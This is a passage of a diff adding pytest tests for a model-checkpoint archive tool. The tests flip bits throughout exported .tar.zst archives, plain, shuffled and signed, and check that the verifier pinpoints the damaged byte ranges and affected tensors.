+    with path.open("r+b", buffering=0) as f:
+        data = f.read()
+        for bit in bits:
+            at = bit // 8
+            f.seek(at)
+            f.write(bytes([data[at] ^ 1 << bit % 8]))
+            with Source(path.parent) as source:
+                found = verify_archive(source, path.name, jobs=1).findings
+            f.seek(at)
+            f.write(data[at : at + 1])
+            hit = [x for x in found if x.file_start is not None and x.file_end and x.file_start <= at < x.file_end]
+            assert hit, (bit, len(data), found)
+            if at >= tables:
+                continue
+            k = bisect_right(t.offsets, at) - 1
+            start, end = t.starts[k], t.starts[k] + t.lengths[k]
+            want = {
+                (n, p.member, max(p.at, start) - p.at, min(p.at + p.nbytes, end) - p.at, p.offset + max(start - p.at, 0))
+                for n, p in places.items()
+                if p.at < end and start < p.at + p.nbytes
+            }
+            assert {(x.tensor, x.member, x.tensor_start, x.tensor_end, x.start) for x in found if x.tensor} == want, bit
+    with Source(path.parent) as source:
+        assert verify_archive(source, path.name, jobs=1).findings == []
+
+
+@pytest.fixture(scope="module")
+def keys(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A folder with mine.pem, mine.pub, other.pem and other.pub."""
+    pytest.importorskip("model_signing")
+    from cryptography.hazmat.primitives import serialization as pem
+    from cryptography.hazmat.primitives.asymmetric import ec
+
+    folder = tmp_path_factory.mktemp("keys")
+    for name in ("mine", "other"):
+        key = ec.generate_private_key(ec.SECP256R1())
+        private = key.private_bytes(pem.Encoding.PEM, pem.PrivateFormat.PKCS8, pem.NoEncryption())
+        (folder / f"{name}.pem").write_bytes(private)
+        public = key.public_key().public_bytes(pem.Encoding.PEM, pem.PublicFormat.SubjectPublicKeyInfo)
+        (folder / f"{name}.pub").write_bytes(public)
+    return folder
+
+
+def state_of(path: Path, tensors: int = 5, seed: int = 1, rows: int = 300) -> Path:
+    g = torch.Generator().manual_seed(seed)
+    model = {f"l{i}.w": torch.randn(rows, 600, generator=g) for i in range(tensors)}
+    model["half"], model["short"] = torch.randn(400, 500, generator=g).bfloat16(), torch.randn(99, generator=g).bfloat16()
+    torch.save({"model": model, "step": 3, "lr": 0.1}, path)
+    return path
+
+
+@pytest.mark.parametrize("how", [(), ("--shuffle",), ("--shuffle", "--sign-key")], ids=["plain", "planes", "signed"])
+def test_a_flipped_bit_anywhere(how: tuple[str, ...], tmp_path: Path, keys: Path) -> None:
+    path = tmp_path / "a.tar.zst"
+    more = [*how, keys / "mine.pem"] if "--sign-key" in how else how
+    words = ["audit", "export", state_of(tmp_path / "s.pt"), path, "--member-size", "1MiB", "--no-ledger", "-q", *more]
+    assert run(*words)[0] == 0
+    with Source(tmp_path) as source:
+        t = Archive(source, path.name).table
+    end, size = t.offsets[-1] + t.sizes[-1], path.stat().st_size
+    dice = random.Random(len(how))
+    flips(path, [dice.randrange(a * 8, b * 8) for a, b, n in ((0, end, 90), (t.offsets[-3], end, 20), (end, size, 40)) for _ in range(n)])
+
+
+def test_every_byte_of_a_small_archive(tmp_path: Path) -> None:
+    k = Kit({"model.a": tensor("model.a", "float32", 3)}, {"model.a": noise(12, 1)})
+    path = build(tmp_path / "a.tar.zst", k)
+    flips(path, [8 * at + at % 8 for at in range(path.stat().st_size)])
